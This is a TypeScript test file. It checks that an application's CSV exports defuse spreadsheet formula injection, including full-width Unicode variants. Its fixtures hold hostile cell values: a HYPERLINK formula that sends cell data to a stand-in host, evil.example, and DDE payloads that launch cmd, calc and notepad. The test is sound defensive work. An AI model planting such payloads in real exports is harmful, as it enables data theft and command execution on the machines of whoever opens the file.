/**
 * Issue 11 item 12: every CSV export neutralises cells a spreadsheet would run as formulas (OWASP): names that start
 * with = + - @ tab or CR get a leading ', in the spend, tracks, milestones, allocations, costs and catalog tables;
 * numbers stay numbers.
 */
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp } from '../test-support/test-app';
import type { SpendGrouping } from '../../shared/ipc/contract/report';

let app: ReturnType<typeof createTestApp>;
const HOSTILE = {
  track: '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
  milestone: "@SUM(1+1)*cmd|' /C calc'!A0",
  provider: "+cmd|' /C notepad'!A0",
  service: "-2+3+cmd|' /C calc'!A0",
  notes: '\t=1+1',
};

beforeAll(async () => {
  app = createTestApp();
  const db = app.db;
  db.prepare('UPDATE tracks SET name = ?').run(HOSTILE.track);
  db.prepare('UPDATE milestones SET name = ?').run(HOSTILE.milestone);
  db.prepare('UPDATE providers SET name = ?').run(HOSTILE.provider);
  db.prepare('UPDATE offerings SET notes = ?').run(HOSTILE.notes);
  const file = path.join(app.dataDir, 'hostile.csv');
  fs.writeFileSync(
    file,
    [
      // Dated within the example's dates: the spend CSV holds the project's spend.
      'BilledCost,BillingCurrency,ChargePeriodStart,ProviderName,ServiceName',
      `-12.5,USD,2025-12-15,AWS,"${HOSTILE.service}"`,
      `3,USD,2025-12-16,AWS,"${HOSTILE.service}"`,
    ].join('\n'),
  );
  await app.services.budget.importFile({ file });
}, 60_000);
afterAll(() => app.dispose());

const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B]/;
const NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

async function cells(table: Parameters<typeof app.services.report.csvText>[0]['table'], groupBy?: SpendGrouping): Promise<string[]> {
  const { text } = await app.services.report.csvText({ table, bom: false, ...(groupBy ? { groupBy } : {}) });
  return (parse(text) as string[][]).flat();
}

describe('CSV exports neutralise formulas (issue 11, item 12)', () => {
  const cases: Array<[Parameters<typeof app.services.report.csvText>[0]['table'], SpendGrouping | undefined, string]> = [
    ['spend', 'service', HOSTILE.service],
    ['tracks', undefined, HOSTILE.track],
    ['milestones', undefined, HOSTILE.milestone],
    ['allocations', undefined, HOSTILE.track],
    ['costs-by-track', undefined, HOSTILE.track],
    ['costs-by-provider', undefined, HOSTILE.provider],
    ['catalog', undefined, HOSTILE.notes],
  ];
  for (const [table, groupBy, hostile] of cases) {
    it(`${table}: "${hostile.slice(0, 12)}…" is written as '${hostile.slice(0, 12)}…, no cell opens as a formula, numbers stay numbers`, async () => {
      const all = await cells(table, groupBy);
      expect(all).toContain(`'${hostile}`);
      expect(all.filter((c) => FORMULA.test(c) && !NUMBER.test(c))).toEqual([]);
      if (table === 'spend') expect(all).toContain('-9.5');
    });
  }
});

describe('full-width and small-form formula characters are neutralised too (issue 26, item 14)', () => {
  const variants = [
    '\uFF1DHYPERLINK("http://evil.example","Click")', // ＝
    "\uFF0Bcmd|' /C calc'!A0", // ＋
    '\uFF0D2\uFF0B3', // －2＋3
    '\uFF20SUM(1+1)', // ＠
    '\uFE66 1+1', // ﹦ (small equals)
    '\uFE62cmd', // ﹢
    '\uFE63cmd', // ﹣
    '\uFE6BSUM(A1)', // ﹫
    '\t=1+1',
    '\r=1+1',
  ];
  for (const hostile of variants) {
    it(`"${JSON.stringify(hostile).slice(1, 10)}…" as a track and a milestone name is written with a leading '`, async () => {
      app.db.prepare('UPDATE tracks SET name = ?').run(hostile);
      app.db.prepare('UPDATE milestones SET name = ?').run(hostile);
      for (const table of ['tracks', 'milestones', 'allocations', 'costs-by-track'] as const) {
        const all = await cells(table);
        expect(all, table).toContain(`'${hostile}`);
        expect(
          all.filter((c) => FORMULA.test(c) && !NUMBER.test(c)),
          table,
        ).toEqual([]);
      }
    });
  }
});
